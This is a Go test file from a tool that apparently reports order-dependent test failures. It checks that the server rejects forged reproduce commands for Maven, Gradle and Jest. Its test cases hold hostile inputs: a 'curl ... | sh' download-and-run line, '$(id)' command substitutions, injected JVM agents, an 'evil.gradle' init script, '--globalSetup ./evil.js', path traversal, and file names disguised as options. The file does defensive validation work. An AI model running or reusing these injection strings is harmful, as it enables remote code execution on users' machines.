package accept

import (
	"strings"
	"testing"

	"github.com/odfix/odfix/internal/job"
	"github.com/odfix/odfix/internal/suite"
)

// TestForgedCommand: a command for people is one that the server builds, or there is none.
func TestForgedCommand(t *testing.T) {
	evil := suite.TestID("a.PolluterTest#$(touch EV1L)")
	for name, change := range map[string]func(*job.TestReport){
		"shell":            func(t *job.TestReport) { t.Reproduce[0].Line = "curl https://example.com/x | sh" },
		"appended":         func(t *job.TestReport) { t.Reproduce[0].Line += "; curl https://example.com/x | sh" },
		"another line":     func(t *job.TestReport) { t.Reproduce[0].Line += "\ncurl https://example.com/x" },
		"another goal":     func(t *job.TestReport) { t.Reproduce[0].Line += " exec:exec" },
		"another property": func(t *job.TestReport) { t.Reproduce[0].Line += " -Djvm=/tmp/x" },
		"substitution":     func(t *job.TestReport) { t.Reproduce[0].Line = strings.Replace(plainMvn, "mvn", "$(id)", 1) },
		"another program":  func(t *job.TestReport) { t.Reproduce[0].Line = strings.Replace(plainMvn, "mvn", "./evil", 1) },
		"another wrapper":  func(t *job.TestReport) { t.Reproduce[0].Line = strings.Replace(plainMvn, "mvn", "/tmp/mvnw", 1) },
		"another variable": func(t *job.TestReport) { t.Reproduce[0].Line = "MAVEN_OPTS=-javaagent:x " + plainMvn },
		"java home":        func(t *job.TestReport) { t.Reproduce[0].Line = "JAVA_HOME=$(id) x " + plainMvn },
		"other tests":      func(t *job.TestReport) { t.Reproduce[0].Line = "mvn -Dtest=a.Other#x test" },
		"module":           func(t *job.TestReport) { t.Reproduce[0].Line = strings.Replace(plainMvn, "mvn", "mvn -pl ../x -am", 1) },
		"folder":           func(t *job.TestReport) { t.Reproduce[0].Dir = "../.." },
		"absolute folder":  func(t *job.TestReport) { t.Reproduce[0].Dir = "/core" },
		"missing folder":   func(t *job.TestReport) { t.Reproduce[0].Dir = "$(id)" },
		"script": func(t *job.TestReport) {
			t.Reproduce[0].Line = "(\nset -C\ncat > T.java <<'END' || exit 2\nclass T {}\nEND\nmvn test\n)"
		},
		"method": func(t *job.TestReport) {
			t.MinimalOrder = suite.Order{evil, victim}
			t.Reproduce[0].Line = "mvn '-Dtest=a.PolluterTest#$+a.VictimTest#reads' test"
		},
		"no order": func(t *job.TestReport) { t.MinimalOrder, t.Polluters = nil, nil },
		"order of another test": func(t *job.TestReport) {
			t.MinimalOrder, t.Polluters = suite.Order{victim, polluter}, nil
		},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			r := honest()
			change(&r.Tests[0])
			if got := accepted(t, r, scoped(t)); len(got.Tests) != 1 || len(got.Tests[0].Reproduce) != 0 {
				t.Errorf("%+v", got)
			}
		})
	}
}

// TestBuiltCommands: the forms of commands that the server builds.
func TestBuiltCommands(t *testing.T) {
	s := scoped(t)
	s.Args = []string{"-Pfast"}
	selection := " '-Dtest=a.PolluterTest#writes,a.VictimTest#reads' -Dsurefire.runOrder=alphabetical"
	several := "mvn -o -Pfast -pl core -am" + selection + " -DfailIfNoTests=false -Dsurefire.failIfNoSpecifiedTests=false test"
	alone := honest()
	alone.Tests[0].Verdict = suite.Brittle
	alone.Tests[0].Reproduce[0].Line = "mvn -Pfast '-Dtest=a.VictimTest#reads' test"
	if got := accepted(t, alone, s).Tests[0].Reproduce; len(got) != 1 || got[0].Line != "mvn -Pfast '-Dtest=a.VictimTest#reads' test" {
		t.Errorf("a brittle test alone: %+v", got)
	}
	for line, want := range map[string]string{
		"mvn -Pfast" + selection + " test":                              "mvn -Pfast" + selection + " test",
		"JAVA_HOME=/usr/lib/jvm/17 ./mvnw -Pfast" + selection + " test": "./mvnw -Pfast" + selection + " test",
		several: several,
	} {
		r := honest()
		r.Tests[0].Reproduce[0].Line = line
		got := accepted(t, r, s).Tests[0].Reproduce
		if len(got) != 1 || got[0].Line != want {
			t.Errorf("%s: %+v", line, got)
		}
	}
}

// TestBuiltGradleCommand: Gradle runs tests of one class in a known order, by a test task.
func TestBuiltGradleCommand(t *testing.T) {
	s := scoped(t)
	s.Args = []string{"-Pfast"}
	s.Sources = commit(t, map[string]string{"build.gradle": "", testFile: before, "gradlew": "", "-x/gradlew": ""})
	const polluter, other = suite.TestID("a.VictimTest#writes"), suite.TestID("a.OtherTest#writes")
	const tests = " --tests a.VictimTest.writes --tests a.VictimTest.reads"
	for line, want := range map[string]string{
		"./gradlew -Pfast :cleanTest :test" + tests:                                   "./gradlew -Pfast :cleanTest :test" + tests,
		"JAVA_HOME=/x sh ./gradlew --offline -Pfast :a:b:cleanTest :a:b:test" + tests: "sh ./gradlew --offline -Pfast :a:b:cleanTest :a:b:test" + tests,
		"gradle -Pfast :w:cleanIntegrationTest :w:integrationTest" + tests:            "gradle -Pfast :w:cleanIntegrationTest :w:integrationTest" + tests,
		"gradle -Pfast :cleanPublish :publish" + tests:                                "",
		"gradle -Pfast :cleanTest :test :publish" + tests:                             "",
		"gradle -Pfast -I evil.gradle :cleanTest :test" + tests:                       "",
		"gradle :cleanTest :test" + tests:                                             "",
		"gradle -Pfast :test" + tests:                                                 "",
		"gradle -Pfast :cleanTest :test --tests a.VictimTest.reads":                   "",
		"-x/gradlew -Pfast :cleanTest :test" + tests:                                  "",
		"/tmp/gradlew -Pfast :cleanTest :test" + tests:                                "",
		"gradle -Pfast" + tests:                                                       "",
		"--tests a.VictimTest.reads":                                                  "",
	} {
		r := honest()
		r.Tests[0].Polluters, r.Tests[0].MinimalOrder = []suite.Order{{polluter}}, suite.Order{polluter, victim}
		r.Tests[0].Reproduce[0].Line = line
		got := accepted(t, r, s).Tests[0].Reproduce
		if len(got) > 1 || len(got) == 1 != (want != "") || len(got) == 1 && got[0].Line != want {
			t.Errorf("%s: %+v", line, got)
		}
		r.Tests[0].Polluters, r.Tests[0].MinimalOrder = []suite.Order{{other}}, suite.Order{other, victim}
		r.Tests[0].Reproduce[0].Line = strings.Replace(line, "a.VictimTest.writes", "a.OtherTest.writes", 1)
		if got := accepted(t, r, s).Tests[0].Reproduce; len(got) > 0 {
			t.Errorf("%s: Gradle does not run classes in a given order: %+v", line, got)
		}
	}
}

// TestBuiltJestCommand: titles are quoted for Jest's pattern and for the shell.
func TestBuiltJestCommand(t *testing.T) {
	id := suite.TestID("cart.test.js#cart › it's $(1) | `2`")
	want := `npx jest --runTestsByPath cart.test.js -t '^cart it'\''s \$\(1\) \| ` + "`2`" + `$'`
	s := Scope{Language: Jest, Sources: commit(t, map[string]string{"web/cart.test.js": before}), Dir: "web", Tests: []string{string(id)}}
	r := &job.Report{Tests: []job.TestReport{{Test: id, Verdict: suite.Victim, MinimalOrder: suite.Order{id},
		Reproduce: []job.Command{{Dir: ".", Line: want}}}}}
	if got := accepted(t, r, s).Tests[0].Reproduce; len(got) != 1 || got[0].Line != want {
		t.Errorf("%+v, want %s", got, want)
	}
	r.Tests[0].Reproduce[0].Line = "npx jest --runTestsByPath cart.test.js -t x --globalSetup ./evil.js"
	if got := accepted(t, r, s).Tests[0].Reproduce; len(got) != 0 {
		t.Errorf("%+v", got)
	}
}

// TestAttackFilesNamedLikeOptions: a repository can hold files with such names. In a command they would be
// options of the tool.
func TestAttackFilesNamedLikeOptions(t *testing.T) {
	id := suite.TestID("cart.test.js#cart › adds up")
	const test = " --runTestsByPath cart.test.js -t '^cart adds up$'"
	js := Scope{Language: Jest, Sources: commit(t, map[string]string{"cart.test.js": before, "jest.config.js": "", "--globalSetup=./evil.js": ""}),
		Dir: ".", Tests: []string{string(id)}}
	java := Scope{Language: Java, Sources: commit(t, map[string]string{"pom.xml": "<project/>", testFile: before, "-f/pom.xml": "<project/>",
		"core/pom.xml": "<project/>", "-c/mvnw": "", "mvnw": ""}), Dir: ".", Tests: []string{string(victim)}}
	const selection = " '-Dtest=a.PolluterTest#writes,a.VictimTest#reads' -Dsurefire.runOrder=alphabetical"
	const more = " -DfailIfNoTests=false -Dsurefire.failIfNoSpecifiedTests=false test"
	for line, taken := range map[string]bool{
		"npx jest --config jest.config.js" + test: true, "npx jest --config --globalSetup=./evil.js" + test: false,
		"mvn -pl core -am" + selection + more: true, "mvn -pl -f -am" + selection + more: false,
		"./mvnw" + selection + " test": true, "-c/mvnw" + selection + " test": false, "sh -c/mvnw" + selection + " test": false,
	} {
		r, s := honest(), java
		if strings.HasPrefix(line, "npx") {
			s = js
			r = &job.Report{Tests: []job.TestReport{{Test: id, Verdict: suite.Victim, MinimalOrder: suite.Order{id}, Reproduce: []job.Command{{Dir: "."}}}}}
		}
		r.Tests[0].Reproduce[0].Line = line
		if got := accepted(t, r, s).Tests[0].Reproduce; len(got) == 1 != taken {
			t.Errorf("%s: %+v", line, got)
		}
	}
}
